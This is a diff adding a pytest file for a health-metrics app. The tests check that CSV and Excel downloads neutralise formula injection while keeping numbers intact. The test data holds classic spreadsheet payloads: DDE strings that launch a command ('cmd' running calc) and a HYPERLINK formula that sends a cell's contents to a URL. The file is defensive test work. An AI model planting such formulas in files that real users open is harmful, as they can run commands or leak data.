@@ -1,0 +1,81 @@
+"""Downloads cannot carry a live formula (OWASP CSV injection): text from loaded files that
+begins with =, +, -, @, a tab or a carriage return is written with a leading quote, in the
+CSV and in the Excel workbook; numbers stay numbers."""
+
+import datetime as dt
+import io
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from metrics import catalogue, explorer
+from ui import exports
+
+HOSTILE = ["=HYPERLINK(\"https://example.com/?\"&A1,\"Details\")", "+1+cmd|' /C calc'!A0",
+           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+def _figures_table() -> pd.DataFrame:
+    """The Figures table an outcome page offers for download, built from rows whose value
+    notes (as a hostile extract could carry) begin with formula characters."""
+    ind = catalogue.get("deaths_in_treatment")
+    rows = pd.DataFrame({
+        "indicator_id": ind.id, "area_code": "E10000013",
+        "period": [f"{2015 + i}/{16 + i}" for i in range(len(HOSTILE))],
+        "period_kind": "financial_year",
+        "period_start": [dt.date(2015 + i, 4, 1) for i in range(len(HOSTILE))],
+        "period_end": [dt.date(2016 + i, 3, 31) for i in range(len(HOSTILE))],
+        "numerator": 20.0, "denominator": 1000.0, "value": 2.0, "lower95": 1.3,
+        "upper95": 3.1, "lower998": 1.0, "upper998": 3.8, "value_note": HOSTILE})
+    areas = pd.DataFrame({"area_code": ["E10000013"], "area_name": ["-Gloucestershire"],
+                          "area_type": ["utla"]})
+    table = explorer.values_table(rows, ind, ["E10000013"], areas, dt.date(2026, 6, 30), 5)
+    table["Change"] = -1.5          # a negative number stays a number
+    return table
+
+
+def _is_formula_text(cell) -> bool:
+    return isinstance(cell, str) and cell.startswith(exports.FORMULA_START) and \
+        not exports._PLAIN_NUMBER.fullmatch(cell) and cell != "-"
+
+
+def test_today_the_notes_would_be_live_formulas():
+    """The frame as built: a plain to_excel would write formula cells (what this fixes)."""
+    buffer = io.BytesIO()
+    _figures_table().to_excel(buffer, index=False)
+    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue())).active
+    assert any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
+
+
+def test_excel_download_has_no_formula_cell_and_keeps_numbers():
+    table = _figures_table()
+    sheet = openpyxl.load_workbook(io.BytesIO(exports.excel_bytes(table))).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert not [c.value for c in cells if _is_formula_text(c.value)]
+    header = [c.value for c in next(sheet.iter_rows())]
+    notes = [row[header.index("Note")].value for row in sheet.iter_rows(min_row=2)]
+    # (XML keeps a carriage return as a line feed.)
+    assert sorted(notes) == sorted("'" + h.replace("\r", "\n") for h in HOSTILE)
+    changes = [row[header.index("Change")].value for row in sheet.iter_rows(min_row=2)]
+    assert changes == [-1.5] * len(HOSTILE)
+    assert {row[header.index("Count")].value for row in sheet.iter_rows(min_row=2)} == {20}
+    assert {row[header.index("Area")].value for row in sheet.iter_rows(min_row=2)} == \
+        {"'-Gloucestershire"}
+
+
+def test_csv_download_quotes_every_formula_cell():
+    table = _figures_table()
+    back = pd.read_csv(io.BytesIO(exports.csv_bytes(table)), dtype=str, keep_default_na=False)
+    assert not [v for v in back.to_numpy().ravel() if _is_formula_text(v)]
+    assert sorted(back["Note"]) == sorted("'" + h for h in HOSTILE)
+    assert set(back["Change"]) == {"-1.5"}
+
+
+@pytest.mark.parametrize("value, expected", [
+    ("-", "-"), ("-12.5", "-12.5"), ("+44", "+44"), ("-1,234", "-1,234"), ("-3%", "-3%"),
+    ("-1+2", "'-1+2"), ("=1", "'=1"), ("@A1", "'@A1"), ("- note", "'- note"),
+    ("plain", "plain"), (3.0, 3.0), (-2, -2), (None, None)])
+def test_neutralise(value, expected):
+    assert exports.neutralise(value) == expected
